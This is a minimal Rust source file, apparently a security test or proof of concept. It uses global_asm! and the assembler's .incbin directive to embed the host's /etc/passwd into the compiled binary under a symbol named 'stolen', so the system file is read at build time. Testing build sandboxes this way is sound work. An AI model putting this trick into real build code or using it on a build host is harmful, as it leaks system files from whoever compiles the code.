use std::arch::global_asm;
global_asm!(".section .rodata", ".global stolen", "stolen: .incbin \"/etc/passwd\"");
fn main() {}
